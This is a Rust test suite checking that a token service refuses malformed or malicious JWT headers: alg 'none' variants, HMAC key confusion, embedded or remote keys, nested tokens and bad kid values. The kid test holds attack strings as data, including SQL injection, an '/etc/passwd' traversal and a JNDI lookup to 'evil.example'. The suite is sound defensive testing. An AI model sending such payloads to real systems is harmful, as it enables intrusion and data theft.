//! Section C, second half: what a header says, and what is made of it.

use std::net::TcpListener;

use countersign_service::{RefusedKind, ServiceError};
use countersign_testkit::{Assertion, NewClient, TestKey, World, base64url, hmac_sha256};
use serde_json::json;

use crate::support::{assert_accepted, assert_recorded, assert_refused, assert_text_refused};

#[tokio::test]
async fn c9_an_alg_that_is_missing_or_no_text_is_refused() {
    let world = World::start().await;
    let missing = world.assertion().without_header("alg");
    assert_refused(&world, &missing, "header_unacceptable").await;
    for value in [
        json!(1),
        json!(null),
        json!(["ES256"]),
        json!({"alg": "ES256"}),
        json!(true),
    ] {
        let assertion = world.assertion().header("alg", value);
        assert_refused(&world, &assertion, "header_unacceptable").await;
    }
}

#[tokio::test]
async fn c10_alg_none_is_refused_however_it_is_written() {
    let world = World::start().await;
    for name in [
        "none", "None", "nOnE", "NONE", "NONE ", "none\0", "", "ES256 ", "es256", "ES256K",
    ] {
        let assertion = world.assertion().header("alg", name);
        assert_refused(&world, &assertion, "algorithm_not_allowed").await;
    }
    let unsigned = world.assertion().header("alg", "none");
    for signature in ["", "AA"] {
        let text = format!("{}.{signature}", unsigned.signing_input());
        let answer = world.server.grant(&world.acme, &text).await;
        assert_eq!(answer.status, 400);
    }
}

#[tokio::test]
async fn c11_a_public_key_is_never_an_hmac_secret() {
    let world = World::start().await;
    let public = world.a1.key.parsed();
    let pem = world.a1.key.public_key();
    let jwk = public.to_jwk(&world.a1.kid, None).to_string();
    for secret in [pem.as_bytes(), pem.trim().as_bytes(), jwk.as_bytes(), b""] {
        for (name, reason) in [
            ("HS256", "algorithm_not_allowed"),
            ("ES256", "signature_invalid"),
        ] {
            let assertion = world.assertion().header("alg", name);
            let signature = hmac_sha256(secret, assertion.signing_input().as_bytes());
            assert_refused(&world, &assertion.signature(signature), reason).await;
        }
    }
    for name in ["HS384", "HS512"] {
        let assertion = world.assertion().header("alg", name);
        assert_refused(&world, &assertion, "algorithm_not_allowed").await;
    }
}

#[tokio::test]
async fn c12_any_crit_is_refused() {
    let world = World::start().await;
    for value in [
        json!(["x"]),
        json!([]),
        json!("exp"),
        json!(["exp", "exp"]),
        json!(["alg"]),
        json!(["b64"]),
        json!(null),
    ] {
        let assertion = world.assertion().header("crit", value).header("x", 1);
        assert_refused(&world, &assertion, "header_unacceptable").await;
    }
    // In the payload it is one unknown claim among others.
    assert_accepted(&world, || world.assertion().claim("crit", json!(["x"]))).await;
}

#[tokio::test]
async fn c13_an_unencoded_payload_is_refused() {
    let world = World::start().await;
    for value in [json!(false), json!(true)] {
        let assertion = world.assertion().header("b64", value.clone());
        assert_refused(&world, &assertion, "header_unacceptable").await;
        let assertion = assertion.header("crit", json!(["b64"]));
        assert_refused(&world, &assertion, "header_unacceptable").await;
    }
}

#[tokio::test]
async fn c14_compressed_encrypted_and_nested_tokens_are_refused() {
    let world = World::start().await;
    let zipped = world.assertion().header("zip", "DEF");
    assert_refused(&world, &zipped, "header_unacceptable").await;
    for cty in ["JWT", "jwt", "application/jwt"] {
        let nested = world.assertion().header("cty", cty);
        assert_refused(&world, &nested, "header_unacceptable").await;
    }
    let header = base64url(r#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#);
    let encrypted = format!("{header}.a2V5.aXY.Y2lwaGVy.dGFn");
    assert_text_refused(&world, &encrypted, "assertion_malformed").await;
    let inner = world.assertion().sign();
    let wrapped = world.assertion().raw_payload(inner);
    assert_refused(&world, &wrapped, "claims_malformed").await;
}

#[tokio::test]
async fn c15_a_key_in_the_header_is_never_used_and_no_address_in_it_is_asked() {
    let world = World::start().await;
    let canary = TcpListener::bind("127.0.0.1:0").unwrap();
    canary.set_nonblocking(true).unwrap();
    let address = format!("http://{}/keys", canary.local_addr().unwrap());
    let attacker = TestKey::es256();
    let jwk = attacker.parsed().to_jwk("attacker", None);
    for (name, value) in [
        ("jwk", jwk),
        ("jku", json!(address)),
        ("x5u", json!(address)),
        ("x5c", json!([base64url("MIIB")])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ] {
        let own = world.assertion().header(name, value);
        assert_refused(&world, &own, "header_unacceptable").await;
        assert_refused(&world, &own.signed_by(&attacker), "header_unacceptable").await;
    }
    let asked = canary.accept().map(drop);
    assert_eq!(asked.unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
}

#[tokio::test]
async fn c16_the_type_fits_the_use() {
    let world = World::start().await;
    for typ in ["JWT", "jwt", "application/jwt", "Application/JWT"] {
        assert_accepted(&world, || world.assertion().header("typ", typ)).await;
    }
    for typ in [
        "at+jwt",
        "application/at+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "logout+jwt",
        "token-introspection+jwt",
        "JOSE",
        "JOSE+JSON",
        "",
        "JWT ",
    ] {
        let assertion = world.assertion().header("typ", typ);
        assert_refused(&world, &assertion, "header_unacceptable").await;
    }
    for typ in [
        "client-authentication+jwt",
        "application/Client-Authentication+jwt",
    ] {
        let assertion = || world.assertion().header("typ", typ).sign();
        let answer = world.server.token(&world.acme, &assertion()).await;
        assert_eq!(answer.status, 200, "{}", answer.text());
        let answer = world.server.grant(&world.acme, &assertion()).await;
        assert_eq!(answer.status, 400);
        assert_recorded(&world, &world.acme, &answer, "header_unacceptable").await;
    }
    for value in [json!(1), json!(null), json!(["JWT"])] {
        let assertion = world.assertion().header("typ", value);
        assert_refused(&world, &assertion, "header_unacceptable").await;
    }
}

#[tokio::test]
async fn c17_a_kid_is_a_short_text_and_nothing_is_made_of_it() {
    let world = World::start().await;
    for kid in [
        json!(1),
        json!(null),
        json!(["a"]),
        json!("k".repeat(257)),
        json!("a\nb"),
        json!("\u{1b}[2J"),
    ] {
        let assertion = world.assertion().header("kid", kid);
        assert_refused(&world, &assertion, "header_unacceptable").await;
    }
    for kid in [
        "' OR 1=1--",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "😀",
        "\u{202e}di",
        "",
        "%00",
    ] {
        let assertion = world.assertion().header("kid", kid);
        assert_refused(&world, &assertion, "key_unknown").await;
    }
    let padded = format!("{} ", world.a1.kid);
    for kid in [padded, world.a1.kid.to_ascii_uppercase()] {
        let assertion = world.assertion().header("kid", kid);
        assert_refused(&world, &assertion, "key_unknown").await;
    }
}

#[tokio::test]
async fn c18_without_a_kid_every_active_key_that_fits_is_tried_and_four_at_most() {
    let world = World::start().await;
    assert_accepted(&world, || world.assertion().without_header("kid")).await;
    // The newest key stands first: the sixth is tried, the first no more.
    let mut newest = world.a1.key.clone();
    for _ in 0..5 {
        newest = TestKey::es256();
        world
            .server
            .rotate(&world.a1, &newest, None, None)
            .await
            .unwrap();
    }
    let nameless = world.assertion().without_header("kid");
    assert_refused(&world, &nameless, "signature_invalid").await;
    let newest = nameless.signed_by(&newest).sign();
    assert_eq!(world.server.grant(&world.acme, &newest).await.status, 200);
    assert_accepted(&world, || world.assertion()).await;
    let other = TestKey::generate(countersign_testkit::crypto::Algorithm::EdDsa);
    let unfit = world
        .assertion()
        .without_header("kid")
        .header("alg", "EdDSA");
    assert_refused(&world, &unfit.signed_by(&other), "key_unknown").await;
}

#[tokio::test]
async fn c19_the_kid_of_another_client_or_organization_finds_nothing() {
    let world = World::start().await;
    for other in [&world.a2, &world.b1] {
        let stolen = world.assertion().header("kid", other.kid.as_str());
        assert_refused(&world, &stolen, "key_unknown").await;
        assert_refused(&world, &stolen.signed_by(&other.key), "key_unknown").await;
        let nameless = world
            .assertion()
            .without_header("kid")
            .signed_by(&other.key);
        assert_refused(&world, &nameless, "signature_invalid").await;
    }
}

#[tokio::test]
async fn c20_a_kid_names_one_key_of_a_configuration() {
    let world = World::start().await;
    let taken = world
        .server
        .rotate(&world.a1, &TestKey::es256(), Some(&world.a1.kid), None)
        .await;
    let Err(ServiceError::Refused(refused)) = taken else {
        panic!("{taken:?}");
    };
    assert_eq!(
        (refused.code, refused.kind),
        ("kid_taken", RefusedKind::Invalid)
    );
    // Another configuration may use the same name for its own key.
    let new = NewClient {
        kid: Some(world.a1.kid.clone()),
        ..NewClient::with_key(&TestKey::es256())
    };
    let twin = world.server.create_client(&world.acme, new).await.unwrap();
    assert_eq!(twin.kid, world.a1.kid);
    let crossed = world.assertion().signed_by(&twin.key);
    assert_refused(&world, &crossed, "signature_invalid").await;
}

#[tokio::test]
async fn c22_names_are_compared_exactly() {
    let world = World::start().await;
    let header = world
        .assertion()
        .without_header("alg")
        .header("ALG", "ES256");
    assert_refused(&world, &header, "header_unacceptable").await;
    assert_accepted(&world, || {
        world
            .assertion()
            .header("Crit", json!(["x"]))
            .header("ZIP", "DEF")
    })
    .await;
    for (name, variant) in [
        ("iss", "Iss"),
        ("sub", "SUB"),
        ("aud", "Aud"),
        ("exp", "EXP"),
    ] {
        let renamed: Assertion = world
            .assertion()
            .without(name)
            .claim(variant, world.server.now() + 30);
        assert_refused(&world, &renamed, "claims_malformed").await;
    }
    let jti = world.assertion().without("jti").claim("JTI", "x").sign();
    assert_eq!(world.server.token(&world.acme, &jti).await.status, 401);
}

#[tokio::test]
async fn c23_unknown_header_parameters_are_ignored() {
    let world = World::start().await;
    assert_accepted(&world, || {
        world
            .assertion()
            .header("nonce", "x")
            .header("x", json!({"y": [1]}))
    })
    .await;
}

#[tokio::test]
async fn c24_nothing_is_decided_on_what_is_not_signed() {
    let world = World::start().await;
    // Each breaks a later rule, too; the signature comes first, so the caller learns nothing of the later rule.
    for assertion in [
        world.assertion().claim("exp", 1),
        world.assertion().claim("exp", "soon"),
        world.assertion().claim("scope", "nothing"),
        world
            .assertion()
            .claim("tenant_id", world.bob.id.to_string()),
        world.assertion().claim("uid", 7),
    ] {
        let forged = assertion.signed_by(&world.a2.key);
        assert_refused(&world, &forged, "signature_invalid").await;
    }
}
